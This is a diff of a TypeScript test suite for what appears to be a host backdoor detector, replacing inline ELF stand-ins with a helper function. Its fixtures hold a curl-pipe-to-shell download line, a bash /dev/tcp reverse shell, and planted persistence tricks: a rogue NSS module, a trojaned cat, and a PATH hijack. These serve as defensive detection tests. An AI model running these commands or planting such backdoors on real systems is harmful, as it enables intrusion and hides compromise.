@@ -5,14 +5,15 @@ import { inspectFiles, smallDebian } from '../../../tests/support/inspect-files.
 import { MemoryTree, type MemoryFile } from '../../../tests/support/memory-tree.ts';
 import { severityRank, type Severity } from '../../events/finding.ts';
 import { inspectHost } from './inspect-host.ts';
+import { elf as elfOf } from '../../../tests/support/elf.ts';
 
 type Files = Readonly<Record<string, MemoryFile>>;
 
 const script = (content: string): MemoryFile => ({ content: `#!/bin/sh\n${content}\n`, mode: 0o755 });
 const download = 'curl -fsS http://203.0.113.7/x | sh';
 const reverse = 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1';
-const elf = '\u007FELF other';
-const shell = '\u007FELF shell';
+const elf = elfOf('other');
+const shell = elfOf('shell');
 const passwd = (line: string): Files => ({ '/etc/passwd': `${smallDebian['/etc/passwd']}${line}\n` });
 const setUid = Buffer.from('0100000280000000000000000000000000000000', 'hex');
 const aclForDev = Buffer.from(
@@ -75,7 +76,7 @@ const planted: readonly (readonly [string, Severity, string, Files])[] = [
   ['accounts/service-shell', 'medium', '/etc/passwd', passwd('daemon:x:1:1::/:/bin/bash')],
   ['accounts/group', 'high', '/etc/group', { '/etc/group': 'docker:x:999:www-data\n' }],
   ['nss', 'medium', '/etc/nsswitch.conf', { '/etc/nsswitch.conf': 'passwd: files evil\n', '/usr/lib/libnss_evil.so.2': elf }],
-  ['package-mismatch', 'critical', '/usr/bin/cat', { '/usr/bin/cat': { content: '#!/bin/sh\n/usr/bin/cat.bak "$@" | grep -v evil\n', mode: 0o755 }, '/usr/bin/cat.bak': { content: '\u007FELF cat', mode: 0o755 } }],
+  ['package-mismatch', 'critical', '/usr/bin/cat', { '/usr/bin/cat': { content: '#!/bin/sh\n/usr/bin/cat.bak "$@" | grep -v evil\n', mode: 0o755 }, '/usr/bin/cat.bak': { content: elfOf('cat'), mode: 0o755 } }],
   ['package-mismatch', 'critical', '/usr/bin/dash', { '/usr/bin/dash': { target: '/tmp/x' }, '/tmp/x': elf }],
   ['unpackaged-program', 'medium', '/usr/bin/.x', { '/usr/bin/.x': { content: elf, mode: 0o755 } }],
   ['path-hijack', 'medium', '/usr/local/bin/cat', { '/usr/local/bin/cat': script('/bin/cat "$@"') }],
@@ -183,7 +184,7 @@ describe('what is no backdoor is not called one', () => {
 
 describe('what is usual at home is not worth a word', () => {
   it.each<[string, Files]>([
-    ['scripts of their owner', { '/home/dev/.docker/cli-plugins/docker-x': { content: '\u007FELF\u0000', mode: 0o755, uid: 1000 }, '/home/dev/bin/x': { content: '#!/bin/sh\ntrue\n', mode: 0o755, uid: 1000 } }],
+    ['scripts of their owner', { '/home/dev/.docker/cli-plugins/docker-x': { content: elfOf('plug-in'), mode: 0o755, uid: 1000 }, '/home/dev/bin/x': { content: '#!/bin/sh\ntrue\n', mode: 0o755, uid: 1000 } }],
     ['settings of git', { '/home/dev/.gitconfig': '[credential "https://github.com"]\n\thelper =\n\thelper = !/usr/bin/gh auth git-credential\n[diff "exif"]\n\ttextconv = exiftool\n[core]\n\tsshCommand = ssh -i ~/.ssh/work\n' }],
   ])('%s', (_name, files) => {
     const told = inspectFiles(files).filter(({ severity }) => severity !== 'info');
